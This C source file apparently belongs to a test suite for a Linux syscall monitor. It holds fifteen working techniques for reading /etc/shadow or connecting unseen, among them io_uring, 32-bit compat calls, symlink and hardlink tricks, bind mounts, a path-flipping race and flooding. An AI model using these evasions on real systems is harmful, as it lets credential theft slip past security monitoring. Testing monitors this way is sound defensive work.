// SPDX-License-Identifier: Apache-2.0
/* The same reads and connections, by ways that a watcher may have forgotten. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define SECRET "/etc/shadow"
#define HARMLESS "/etc/hostname"
#define MAX_PATH_FLIPS 200000
#define FLOOD_OPENS 100000

static int read_by_openat2(int argc, char **argv)
{
	struct open_how how = { .flags = O_RDONLY | O_CLOEXEC };
	int fd = (int)syscall(SYS_openat2, AT_FDCWD, SECRET, &how, sizeof(how));

	(void)argc;
	(void)argv;
	return fd < 0 ? refused("openat2") : read_some(fd);
}

/* create-by-creat PATH */
static int create_by_creat(int argc, char **argv)
{
	int fd;

	if (argc != 1)
		return misused("create-by-creat PATH");
#ifdef SYS_creat
	fd = (int)syscall(SYS_creat, argv[0], 0644);
	if (fd < 0)
		return refused("creat");
	close(fd);
	unlink(argv[0]);
	return took_effect();
#else
	(void)fd;
	return impossible("no creat on this machine");
#endif
}

static int read_by_symlink(int argc, char **argv)
{
	static const char path[] = "/tmp/pratique-link";
	int fd, outcome;

	(void)argc;
	(void)argv;
	unlink(path);
	if (symlink("../proc/self/root" SECRET, path) < 0)
		return refused("symlink");
	fd = open(path, O_RDONLY | O_CLOEXEC);
	outcome = fd < 0 ? refused("open") : read_some(fd);
	unlink(path);
	return outcome;
}

static int read_by_directory(int argc, char **argv)
{
	int directory = open("/etc", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int fd = openat(directory, "shadow", O_RDONLY | O_CLOEXEC);

	(void)argc;
	(void)argv;
	return fd < 0 ? refused("openat") : read_some(fd);
}

static int read_by_hardlink(int argc, char **argv)
{
	static const char path[] = "/etc/pratique-hardlink";
	int fd, outcome;

	(void)argc;
	(void)argv;
	if (link(SECRET, path) < 0)
		return refused("link");
	fd = open(path, O_RDONLY | O_CLOEXEC);
	outcome = fd < 0 ? refused("open") : read_some(fd);
	unlink(path);
	return outcome;
}

static int read_by_bind_mount(int argc, char **argv)
{
	static const char path[] = "/tmp/pratique-etc";
	int fd, outcome;

	(void)argc;
	(void)argv;
	mkdir(path, 0700);
	if (mount("/etc", path, NULL, MS_BIND, NULL) < 0)
		return refused("mount");
	fd = open("/tmp/pratique-etc/shadow", O_RDONLY | O_CLOEXEC);
	outcome = fd < 0 ? refused("open") : read_some(fd);
	umount2(path, MNT_DETACH);
	rmdir(path);
	return outcome;
}

/* read-as-name NAME PATH: the kernel's name for this process is what it likes. */
static int read_as_name(int argc, char **argv)
{
	int fd;

	if (argc != 2)
		return misused("read-as-name NAME PATH");
	if (prctl(PR_SET_NAME, argv[0]) < 0)
		return refused("prctl");
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	return fd < 0 ? refused("open") : read_some(fd);
}

static int read_in_vfork(int argc, char **argv)
{
	pid_t child = vfork();

	(void)argc;
	(void)argv;
	if (child == 0) {
		int fd = open(SECRET, O_RDONLY | O_CLOEXEC);

		_exit(fd < 0 ? refused("open") : read_some(fd));
	}
	return child < 0 ? refused("vfork") : exit_outcome(child, "child");
}

/* Shares memory, files and directories with its parent, and never executes anything. */
static int read_in_clone(int argc, char **argv)
{
	long child = syscall(SYS_clone, CLONE_FILES | CLONE_FS | SIGCHLD, 0, 0, 0, 0);

	(void)argc;
	(void)argv;
	if (child == 0) {
		int fd = open(SECRET, O_RDONLY | O_CLOEXEC);

		_exit(fd < 0 ? refused("open") : read_some(fd));
	}
	return child < 0 ? refused("clone") : exit_outcome((pid_t)child, "child");
}

/* The calls of 32-bit programs, which have numbers and doors of their own. */
static int read_by_compat(int argc, char **argv)
{
	(void)argc;
	(void)argv;
#ifdef __x86_64__
	enum { COMPAT_OPEN = 5 };
	long fd;
	char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (path == MAP_FAILED)
		return refused("mmap");
	strcpy(path, SECRET);
	__asm__ volatile("int $0x80"
			 : "=a"(fd)
			 : "a"((long)COMPAT_OPEN), "b"(path), "c"((long)O_RDONLY), "d"(0L)
			 : "memory", "r8", "r9", "r10", "r11");
	/* A 32-bit result: the upper half says nothing. */
	if ((int)fd < 0) {
		errno = -(int)fd;
		return errno == ENOSYS ? impossible("a kernel without 32-bit calls") : refused("open");
	}
	return read_some((int)fd);
#else
	return impossible("no 32-bit calls on this machine");
#endif
}

/* As little of a ring as one call needs. */
struct ring {
	int fd;
	unsigned int *submit_tail, *submit_array, *complete_head;
	struct io_uring_sqe *entries;
	struct io_uring_cqe *completions;
};

static int open_ring(struct ring *ring)
{
	struct io_uring_params parameters;
	unsigned char *submit, *complete;

	memset(&parameters, 0, sizeof(parameters));
	ring->fd = (int)syscall(SYS_io_uring_setup, 1, &parameters);
	if (ring->fd < 0)
		return -1;
	submit = mmap(NULL, parameters.sq_off.array + sizeof(unsigned int), PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
		      IORING_OFF_SQ_RING);
	complete = mmap(NULL, parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe),
			PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
	ring->entries = mmap(NULL, sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
			     IORING_OFF_SQES);
	if (submit == MAP_FAILED || complete == MAP_FAILED || ring->entries == MAP_FAILED)
		return -1;
	ring->submit_tail = (unsigned int *)(submit + parameters.sq_off.tail);
	ring->submit_array = (unsigned int *)(submit + parameters.sq_off.array);
	ring->complete_head = (unsigned int *)(complete + parameters.cq_off.head);
	ring->completions = (struct io_uring_cqe *)(complete + parameters.cq_off.cqes);
	return 0;
}

/* Hands the first entry over and gives what became of it; errno is set where it is negative. */
static int run_entry(struct ring *ring)
{
	int result;

	ring->submit_array[0] = 0;
	__atomic_store_n(ring->submit_tail, 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	result = ring->completions[0].res;
	if (result < 0)
		errno = -result;
	return result;
}

static int ring_failed(void)
{
	return errno == ENOSYS ? impossible("a kernel without io_uring") : refused("io_uring_setup");
}

/* The file is opened by the kernel on our behalf: no open is called. */
static int read_by_ring(int argc, char **argv)
{
	struct ring ring;
	int fd;

	(void)argc;
	(void)argv;
	if (open_ring(&ring) < 0)
		return ring_failed();
	memset(ring.entries, 0, sizeof(*ring.entries));
	ring.entries->opcode = IORING_OP_OPENAT;
	ring.entries->fd = AT_FDCWD;
	ring.entries->addr = (uintptr_t)SECRET;
	ring.entries->open_flags = O_RDONLY | O_CLOEXEC;
	fd = run_entry(&ring);
	return fd < 0 ? refused("io_uring open") : read_some(fd);
}

/* connect-by-ring ADDRESS PORT */
static int connect_by_ring(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct ring ring;
	int fd;

	if (argc != 2)
		return misused("connect-by-ring ADDRESS PORT");
	if (own_address(argv[0]) < 0)
		return impossible("the network leads somewhere, or cannot be changed");
	if (listener_at(argv[0], atoi(argv[1])) < 0)
		return refused("listen");
	if (open_ring(&ring) < 0)
		return ring_failed();
	to.sin_port = htons((uint16_t)atoi(argv[1]));
	inet_pton(AF_INET, argv[0], &to.sin_addr);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	memset(ring.entries, 0, sizeof(*ring.entries));
	ring.entries->opcode = IORING_OP_CONNECT;
	ring.entries->fd = fd;
	ring.entries->addr = (uintptr_t)&to;
	ring.entries->off = sizeof(to);
	return run_entry(&ring) < 0 ? refused("io_uring connect") : took_effect();
}

/* A program that is gone from every directory before it does anything. */
static int run_then_unlink(int argc, char **argv)
{
	static const char path[] = "/tmp/pratique-gone";
	int outcome;
	pid_t child;

	if (argc == 1 && strcmp(argv[0], "now") == 0) {
		int fd;

		unlink(path);
		fd = open(SECRET, O_RDONLY | O_CLOEXEC);
		return fd < 0 ? refused("open") : read_some(fd);
	}
	if (copy_self(path) < 0)
		return refused("copy");
	child = fork();
	if (child == 0) {
		char marker[256], *told[] = { "gone", "now", NULL };
		char *environment[] = { marker, "PRATIQUE_RUN=run-then-unlink", NULL };

		snprintf(marker, sizeof(marker), "PRATIQUE_ATTACK=%s", marker_name);
		execve(path, told, environment);
		_exit(refused("execve"));
	}
	outcome = child < 0 ? refused("fork") : exit_outcome(child, "exec");
	unlink(path);
	return outcome;
}

static void flip_path(volatile char *path)
{
	for (;;) {
		strcpy((char *)path, SECRET);
		__asm__ volatile("" ::: "memory");
		strcpy((char *)path, HARMLESS);
		__asm__ volatile("" ::: "memory");
	}
}

static int is_secret(int fd)
{
	struct stat opened, secret;
	int same = fstat(fd, &opened) == 0 && stat(SECRET, &secret) == 0 && opened.st_ino == secret.st_ino &&
		   opened.st_dev == secret.st_dev;

	close(fd);
	return same;
}

/* The path changes between the look of the watcher and the look of the kernel. */
static int read_while_flipping(int argc, char **argv)
{
	char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int got = 0;
	pid_t flipper;

	(void)argc;
	(void)argv;
	if (path == MAP_FAILED)
		return refused("mmap");
	strcpy(path, HARMLESS);
	flipper = fork();
	if (flipper == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		flip_path(path);
	}
	if (flipper < 0)
		return refused("fork");
	for (int count = 0; count < MAX_PATH_FLIPS && !got; count++) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);

		if (fd >= 0)
			got = is_secret(fd);
	}
	kill(flipper, SIGKILL);
	waitpid(flipper, NULL, 0);
	errno = EACCES;
	return got ? took_effect() : refused("open");
}

/* So many harmless opens that the one that matters may be lost among them. */
static int flood_then_read(int argc, char **argv)
{
	int fd;

	(void)argc;
	(void)argv;
	for (int count = 0; count < FLOOD_OPENS; count++) {
		fd = open(HARMLESS, O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			close(fd);
	}
	fd = open(SECRET, O_RDONLY | O_CLOEXEC);
	return fd < 0 ? refused("open") : read_some(fd);
}

const struct attack evasion_attacks[] = {
	{ "read-by-openat2", read_by_openat2 },
	{ "create-by-creat", create_by_creat },
	{ "read-by-symlink", read_by_symlink },
	{ "read-by-directory", read_by_directory },
	{ "read-by-hardlink", read_by_hardlink },
	{ "read-by-bind-mount", read_by_bind_mount },
	{ "read-as-name", read_as_name },
	{ "read-in-vfork", read_in_vfork },
	{ "read-in-clone", read_in_clone },
	{ "read-by-compat", read_by_compat },
	{ "read-by-ring", read_by_ring },
	{ "connect-by-ring", connect_by_ring },
	{ "run-then-unlink", run_then_unlink },
	{ "read-while-flipping", read_while_flipping },
	{ "flood-then-read", flood_then_read },
	{ NULL, NULL },
};
